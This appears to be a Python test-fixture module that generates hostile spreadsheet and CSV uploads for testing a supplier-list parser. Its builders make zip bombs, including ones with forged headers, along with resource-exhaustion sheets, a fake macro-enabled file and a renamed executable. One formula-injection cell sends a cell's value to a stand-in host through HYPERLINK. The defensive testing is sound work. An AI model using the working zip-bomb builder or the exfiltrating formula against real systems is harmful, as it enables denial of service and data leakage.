"""Hostile supplier sheets, made here from a small real workbook: zip bombs (honest and lying
headers), a cell at the far corner of the grid, a million empty rows, merged-cell bombs, a
binary renamed .xlsx, an .xlsm with a VBA project, formulas; and CSV with NUL bytes, mixed
encodings and a 1 MB cell.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import Workbook

SHEET_PART = "xl/worksheets/sheet1.xml"
SHARED_STRINGS_PART = "xl/sharedStrings.xml"
HEADINGS = ("Supplier Name", "Country")
LISTED = "Mansudae Overseas Project Group of Companies"
ROWS = ((LISTED, "KP"), ("Acme Office Supplies GmbH", "DE"))
BOMB_INFLATED_BYTES = 2 * 1024**3
_BOMB_RUN_BYTES = 16 * 1024 * 1024  # deflated once, repeated


def workbook(rows: tuple[tuple[str, str], ...] = ROWS) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Suppliers"
    sheet.append(HEADINGS)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The package with one member's content changed, every other member as it was."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info.filename, change(content) if info.filename == part else content)
    return out.getvalue()


def with_rows_xml(extra_rows: bytes, *, dimension: str | None = None) -> bytes:
    """The small workbook with raw <row> XML added to its sheet."""

    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"</sheetData>", extra_rows + b"</sheetData>")
        if dimension is not None:
            xml = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), xml)
        return xml

    return rewritten(workbook(), SHEET_PART, change)


def far_corner_cell() -> bytes:
    """One cell at XFD1048576: the cell reader would lay out 17 billion cells from A1."""
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return with_rows_xml(far)


def million_empty_rows() -> bytes:
    """A sheet that declares A1:Z1048576 and has a million empty cells down column A."""
    rows = b"".join(b'<row r="%d"><c r="A%d"/></row>' % (n, n) for n in range(4, 1_048_577))
    return with_rows_xml(rows, dimension="A1:Z1048576")


def merge_bomb() -> bytes:
    """Ten thousand merged blocks, each down the whole sheet: billions of cells to walk."""
    rows = b'<row r="200000"><c r="A200000" t="inlineStr"><is><t>x</t></is></c></row>'
    merges = b"".join(b'<mergeCell ref="B%d:B200000"/>' % n for n in range(2, 10_002))
    xml_merges = b'<mergeCells count="10000">' + merges + b"</mergeCells>"

    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"</sheetData>", rows + b"</sheetData>" + xml_merges, 1)
        return xml

    return rewritten(workbook(), SHEET_PART, change)


def formula_workbook() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADINGS)
    sheet.append([LISTED, "KP"])
    sheet.append(['=HYPERLINK("http://example.invalid/?d="&A2,"click")', "DE"])
    sheet.append(["=1+2", "=A2"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_macros() -> bytes:
    """An .xlsm: the small workbook with a VBA project part (an OLE file, as Excel writes)."""
    vba = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n' * 64
    )
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(workbook()))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename == "[Content_Types].xml":
                content = content.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    b"</Types>",
                )
            target.writestr(info.filename, content)
        target.writestr("xl/vbaProject.bin", vba)
    return out.getvalue()


def renamed_binary() -> bytes:
    """An executable's first bytes and noise: nothing a spreadsheet reader should take."""
    return b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 64


_SHEET_BOMB = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>Supplier Name</t></is></c></row>',
    b"</sheetData></worksheet>",
)
_SHARED_STRINGS_BOMB = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    b'uniqueCount="1"><si><t>Supplier Name</t></si>',
    b"</sst>",
)


def _bomb_stream(
    inflated: int, around: tuple[bytes, bytes] = _SHEET_BOMB
) -> tuple[bytes, int, int]:
    """A valid XML part of about `inflated` bytes, deflated; with its CRC and true size.

    Built in a second: one run of whitespace between elements (which deflates about 1,000 to 1)
    is deflated once, ending on a full flush, and its bytes repeated; the inflater reads the
    repeats as one long stream."""
    prefix, suffix = around
    run = b" " * _BOMB_RUN_BYTES
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflater.compress(prefix) + deflater.flush(zlib.Z_FULL_FLUSH)
    block = deflater.compress(run) + deflater.flush(zlib.Z_FULL_FLUSH)
    tail = deflater.compress(suffix) + deflater.flush()
    repeats = max(1, inflated // len(run))
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(run, crc)
    crc = zlib.crc32(suffix, crc)
    size = len(prefix) + repeats * len(run) + len(suffix)
    return head + block * repeats + tail, crc, size


def _with_raw_member(data: bytes, part: str, deflated: bytes, crc: int, size: int) -> bytes:
    """The package with `part`'s stored bytes replaced and its headers saying crc and size."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(part)
    out = bytearray(data)
    offset = info.header_offset
    name_length, extra_length = struct.unpack("<HH", out[offset + 26 : offset + 30])
    start = offset + 30 + name_length + extra_length
    out[start : start + info.compress_size] = deflated
    shift = len(deflated) - info.compress_size
    struct.pack_into("<III", out, offset + 14, crc, len(deflated), size)
    end = out.rfind(b"PK\x05\x06")
    directory = struct.unpack("<I", out[end + 16 : end + 20])[0] + shift
    struct.pack_into("<I", out, end + 16, directory)
    position = directory
    while out[position : position + 4] == b"PK\x01\x02":
        lengths = struct.unpack("<HHH", out[position + 28 : position + 34])
        name = bytes(out[position + 46 : position + 46 + lengths[0]]).decode()
        local = struct.unpack("<I", out[position + 42 : position + 46])[0]
        if name == part:
            struct.pack_into("<III", out, position + 16, crc, len(deflated), size)
        elif local > offset:
            struct.pack_into("<I", out, position + 42, local + shift)
        position += 46 + sum(lengths)
    return bytes(out)


def zip_bomb(inflated: int = BOMB_INFLATED_BYTES) -> bytes:
    """A 2 MB workbook whose sheet inflates to 2 GiB, and says so in its headers."""
    deflated, crc, size = _bomb_stream(inflated)
    return _with_raw_member(workbook(), SHEET_PART, deflated, crc, size)


def lying_zip_bomb(inflated: int = BOMB_INFLATED_BYTES) -> bytes:
    """The same bomb with headers that claim a 1 KB sheet (and that sheet's CRC)."""
    deflated, _crc, _size = _bomb_stream(inflated)
    claimed = b"x" * 1024
    return _with_raw_member(workbook(), SHEET_PART, deflated, zlib.crc32(claimed), len(claimed))


def with_shared_strings() -> bytes:
    """The small workbook with a sharedStrings.xml part, as Excel writes one (openpyxl writes
    its strings inline), named in the workbook's relationships and content types."""
    added = {
        SHARED_STRINGS_PART: _SHARED_STRINGS_BOMB[0] + _SHARED_STRINGS_BOMB[1],
    }
    relationship = (
        b'<Relationship Id="rIdShared" Target="sharedStrings.xml" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>'
    )
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )
    changes = {
        "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(b"</Relationships>", relationship),
        "[Content_Types].xml": lambda xml: xml.replace(b"</Types>", override),
    }
    source = zipfile.ZipFile(io.BytesIO(workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            change = changes.get(info.filename)
            target.writestr(info.filename, change(content) if change else content)
        for name, content in added.items():
            target.writestr(name, content)
    return out.getvalue()


def shared_strings_bomb(inflated: int = BOMB_INFLATED_BYTES, *, lying: bool = False) -> bytes:
    """A workbook whose sheet is honest and small but whose sharedStrings.xml (read by the cell
    reader, never by our sheet checks) inflates to `inflated` bytes; with `lying`, its headers
    claim 1 KB."""
    deflated, crc, size = _bomb_stream(inflated, _SHARED_STRINGS_BOMB)
    if lying:
        claimed = b"x" * 1024
        crc, size = zlib.crc32(claimed), len(claimed)
    return _with_raw_member(with_shared_strings(), SHARED_STRINGS_PART, deflated, crc, size)


# CSV ------------------------------------------------------------------------------------------

CSV_HEADING = b"Supplier Name,Country\r\n"


def csv_with_nul_bytes() -> bytes:
    return CSV_HEADING + b"Ac\x00me Off\x00ice Supplies GmbH,DE\r\n" + LISTED.encode() + b",KP\r\n"


MIXED_ROWS = (("ООО Ромашка", "cp1251"), ("Société Générale", "utf-8"), ("Müller GmbH", "cp1252"))


def csv_with_mixed_encodings() -> bytes:
    """A file pasted together: mostly Windows-1251, one line UTF-8, one Windows-1252."""
    lines = [CSV_HEADING, "ООО Лютик,RU\r\n".encode("cp1251")]
    lines += [f"{name},RU\r\n".encode(encoding) for name, encoding in MIXED_ROWS]
    lines.append("ЗАО Василёк,RU\r\n".encode("cp1251"))
    return b"".join(lines)


def csv_with_a_huge_cell(size: int = 1024 * 1024) -> bytes:
    return CSV_HEADING + b"A" * size + b",DE\r\n" + LISTED.encode() + b",KP\r\n"
